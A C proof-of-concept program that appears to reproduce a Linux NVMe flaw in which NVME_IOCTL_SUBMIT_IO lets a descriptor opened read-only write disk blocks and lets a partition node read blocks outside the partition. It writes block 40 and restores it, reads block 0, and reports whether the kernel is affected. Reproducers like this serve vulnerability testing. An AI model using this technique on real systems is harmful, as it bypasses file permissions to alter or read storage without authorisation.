/* SPDX-License-Identifier: Apache-2.0 */
/*
 * K1: NVME_IOCTL_SUBMIT_IO is not judged: who may open a namespace's node for reading writes to it,
 * and through a partition's node reads blocks outside of the partition.
 * Affected: Linux before 7.3 (seen on 6.1.0-56 and 6.12.95). Not affected: 7.3.4.
 *
 *   k1-submit-io NODE [PARTITION]    /dev/ng0n1 or /dev/nvme0n1, and /dev/nvme0n1p1
 *
 * Started as root it gives up its rights after it has opened the nodes. Block 40 is written and put
 * back. Exit status: 0 reproduced, 1 not on this kernel, 2 it could not be tried.
 */
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <linux/nvme_ioctl.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>

#define NOBODY 65534
#define BLOCK  40

static uint8_t data[4096] __attribute__((aligned(4096))), before[4096];

static int submit(int fd, uint8_t opcode, uint64_t slba)
{
	struct nvme_user_io io = {.opcode = opcode, .addr = (uintptr_t)data, .slba = slba};
	int r = ioctl(fd, NVME_IOCTL_SUBMIT_IO, &io);

	if (r > 0)
		(void)fprintf(stderr, "opcode %02x: status %04x\n", opcode, (unsigned)r);
	return r;
}

/* 1: the block was written through a descriptor that is open for reading; 0: refused; -1. */
static int writes(int fd)
{
	uint8_t mine;

	if (submit(fd, 0x02, BLOCK) != 0)
		return errno == EACCES ? 0 : -1;
	memcpy(before, data, sizeof(data));
	mine = (uint8_t)~before[0];
	memset(data, mine, sizeof(data));
	if (submit(fd, 0x01, BLOCK) != 0)
		return errno == EACCES ? 0 : -1;
	memset(data, 0, sizeof(data));
	if (submit(fd, 0x02, BLOCK) != 0 || data[0] != mine)
		return -1;
	memcpy(data, before, sizeof(data));
	return submit(fd, 0x01, BLOCK) == 0 ? 1 : -1;
}

/* The first block of the disk, which no partition contains. */
static int reads_beyond(int fd)
{
	if (submit(fd, 0x02, 0) == 0)
		return 1;
	return errno == EACCES ? 0 : -1;
}

int main(int argc, char **argv)
{
	int fd, part = -1, w, b;

	if (argc < 2 || (fd = open(argv[1], O_RDONLY | O_CLOEXEC)) < 0 ||
	    (argc > 2 && (part = open(argv[2], O_RDONLY | O_CLOEXEC)) < 0)) {
		perror(argc < 2 ? "usage: k1-submit-io NODE [PARTITION]" : "open");
		return 2;
	}
	if (geteuid() == 0 && (setgroups(0, NULL) < 0 || setgid(NOBODY) < 0 || setuid(NOBODY) < 0))
		return 2;
	w = writes(fd);
	b = part < 0 ? w : reads_beyond(part);
	if (w < 0 || b < 0) {
		perror("K1: could not be tried");
		return 2;
	}
	(void)printf("K1 %s: SUBMIT_IO writes through a descriptor open for reading: %s",
		     w || b ? "reproduced" : "not on this kernel", w ? "yes" : "no");
	if (part >= 0)
		(void)printf(", reads outside of a partition: %s", b ? "yes" : "no");
	(void)putchar('\n');
	return w || b ? 0 : 1;
}
